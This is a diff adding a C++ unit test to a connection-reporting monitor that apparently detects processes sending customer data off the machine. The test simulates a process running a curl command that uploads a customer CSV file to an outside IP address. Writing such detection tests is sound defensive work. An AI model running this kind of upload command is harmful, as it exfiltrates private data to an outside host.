@@ -128,6 +128,19 @@ TEST_F(ConnectionReporterTest, ATransferThatIsToldLateIsToldOnce) {
   EXPECT_THAT(ToldOfConnections(), IsEmpty());
 }
 
+// Between the moments in which a process becomes a carrier and its access has been told there may be a connection.
+TEST_F(ConnectionReporterTest, FromItsFirstMomentACarrierIsKnownToHaveBeenToldAsTransfer) {
+  bench.AddProcess(8, "/usr/bin/curl", "curl -T forty.csv http://192.0.2.7/");
+  bench.guard.NoteTransferTold({8, 80});
+  EXPECT_FALSE(bench.network.ModeOf({8, 80})) << "it carries nothing";
+  const auto curl = *bench.process_info.Describe(8);
+  bench.carriers.Read(curl, {}, {"/home/forty.csv", CustomersFound(0, 39), bench.clock.Now()}, false);
+  EXPECT_EQ(bench.network.ModeOf({8, 80}), platform::CarrierMode::kReport);
+  EXPECT_TRUE(bench.guard.TransferTold({8, 80}));
+  bench.guard.Release({8, 80});
+  EXPECT_FALSE(bench.network.ModeOf({8, 80}));
+}
+
 TEST_F(ConnectionReporterTest, AThreadOfItsOwnTellsAtOnceAndWhatIsLeftAtItsEnd) {
   sensor.OnAttempt(Attempt(0, true));
   {
